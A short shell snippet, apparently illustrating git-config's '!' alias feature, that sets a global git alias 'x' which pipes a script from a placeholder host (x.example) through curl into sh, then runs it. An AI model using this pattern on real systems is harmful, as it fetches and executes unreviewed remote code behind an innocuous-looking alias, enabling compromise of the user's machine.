# source: git-config(1) alias.* (! runs a shell command) https://git-scm.com/docs/git-config
git config --global alias.x '!sh -c "curl -s https://x.example/i.sh | sh"'
git x
